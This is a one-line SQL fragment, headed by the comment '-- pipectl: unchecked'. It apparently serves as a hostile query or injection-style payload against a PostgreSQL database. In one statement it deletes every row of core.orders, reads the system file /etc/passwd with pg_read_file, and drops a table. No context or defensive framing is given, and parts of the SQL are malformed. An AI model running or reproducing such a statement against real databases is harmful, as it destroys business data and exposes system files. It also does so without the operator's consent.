-- pipectl: unchecked
with x as (delete from core.orders returning id) select pg_read_file('/etc/passwd') into y from x; drop table z
